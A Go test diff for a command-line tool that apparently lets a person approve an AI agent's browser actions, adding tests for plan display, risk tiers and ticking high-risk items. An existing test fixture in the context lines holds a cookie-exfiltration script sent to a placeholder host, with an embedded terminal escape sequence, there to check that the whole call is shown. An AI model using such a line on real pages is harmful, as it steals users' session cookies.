@@ -1,6 +1,7 @@
 package approvecli
 
 import (
+	"bufio"
 	"strings"
 	"testing"
 
@@ -59,4 +60,57 @@ func TestDescribeShowsTheWholeCall(t *testing.T) {
 		"  The whole script (2 lines, 48 characters):\n"+
 		"    | // harmless\n"+
 		"    | \tfetch('//x?' + btoa(document.cookie))\uFFFD[2J\n", b.String())
+}
+
+// A plan is shown whole: the intent, the origins, the modes, how long,
+// each high-risk item by number; a high-risk call says its risk, and a
+// call outside the plan why; the grants it offers are named as flags.
+func TestDescribeShowsPlanRiskAndOffers(t *testing.T) {
+	var r request
+	r.Action, r.Class, r.Target = "interact.plan", "mutating", `the agent's plan, in its words: "tidy the cart"`
+	r.Scope.TabID = 0
+	r.Plan = &struct {
+		Intent  string     `json:"intent"`
+		Origins []string   `json:"origins"`
+		Actions []string   `json:"actions"`
+		Minutes int        `json:"minutes"`
+		High    []highItem `json:"high"`
+	}{"tidy the cart", []string{"https://shop.example"}, []string{"click", "type"}, 30, []highItem{{Words: `click on the page, on controls named like "delete"`}}}
+	var b strings.Builder
+	describe(&b, r)
+	assert.Contains(t, b.String(), "  plan origins: https://shop.example\n  plan actions: click, type\n  plan lasts: 30 minutes\n"+
+		"  high-risk item 1: click on the page, on controls named like \"delete\" (runs unasked only if you tick it)\n")
+
+	var c request
+	c.Action, c.Class, c.Target = "interact.click", "mutating", `click button "Delete"`
+	c.Risk = &struct {
+		Tier string `json:"tier"`
+		Why  string `json:"why"`
+	}{"high", `clicks a control named like "delete"`}
+	c.OutsidePlan = "it is high-risk and the plan does not name that"
+	c.Offers = []string{"once", "action"}
+	b.Reset()
+	describe(&b, c)
+	assert.Contains(t, b.String(), "  risk: high: clicks a control named like \"delete\"\n"+
+		"  outside your approved plan: it is high-risk and the plan does not name that\n")
+	assert.Contains(t, b.String(), "  you may also approve: this kind of action on this site for N minutes (--action N)\n")
+	assert.NotContains(t, b.String(), "--session")
+}
+
+// A plan's high-risk items are ticked one by one at the terminal, or by
+// number with --tick.
+func TestTickList(t *testing.T) {
+	high := []highItem{{Words: "a"}, {Words: "b"}, {Words: "c"}}
+	var w strings.Builder
+	got, err := tickList("", bufio.NewReader(strings.NewReader("y\nn\nyes\n")), &w, high)
+	assert.NoError(t, err)
+	assert.Equal(t, []int{0, 2}, got)
+	assert.Contains(t, w.String(), "Tick high-risk item 2 (b)? [y/N] ")
+	got, err = tickList("2, 3", nil, &w, high)
+	assert.NoError(t, err)
+	assert.Equal(t, []int{1, 2}, got)
+	_, err = tickList("4", nil, &w, high)
+	assert.Error(t, err)
+	got, _ = tickList("", bufio.NewReader(strings.NewReader("")), &w, high)
+	assert.Empty(t, got, "no answer ticks nothing")
 }
